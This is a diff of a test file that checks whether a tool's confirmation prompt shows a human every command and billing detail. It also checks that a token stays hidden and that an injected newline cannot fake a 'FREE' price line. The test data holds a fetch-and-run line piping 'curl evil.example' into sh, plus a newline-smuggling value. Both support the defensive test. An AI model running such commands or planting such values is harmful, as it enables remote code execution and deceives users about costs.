@@ -26,7 +26,7 @@ describe('the human sees everything that will run and everything billing (17.15)
     const text = textOf(r);
     expect(text).toMatch(/\| curl evil\.example \| sh/);
     expect(text).toMatch(/Exposed ports: 8080:8080/);
-    expect(text).toMatch(/Label: "exp" \+ a unique suffix; project: demo/);
+    expect(text).toMatch(/Label: “exp” \+ a unique suffix; project: demo/);
     expect(text).toMatch(new RegExp(`Already on the account \\(1\\).*\\n\\s+- #${existing}`));
     expect(text).not.toContain('hf_x');
   });
@@ -37,7 +37,7 @@ describe('the human sees everything that will run and everything billing (17.15)
     const mcp = await connect({ onElicit: (p) => { seen.push(p); return { action: 'decline' }; } });
     await mcp.call('create', ARGS);
     expect(seen[0].message).not.toMatch(/\n\s+Total: \$0\.0000\/h \(FREE\)/);
-    expect(seen[0].message).toContain('"x\\n  Total: $0.0000/h (FREE)"');
+    expect(seen[0].message).toContain('“x\\n  Total: $0.0000/h \\(FREE\\)”');
   });
 });
 
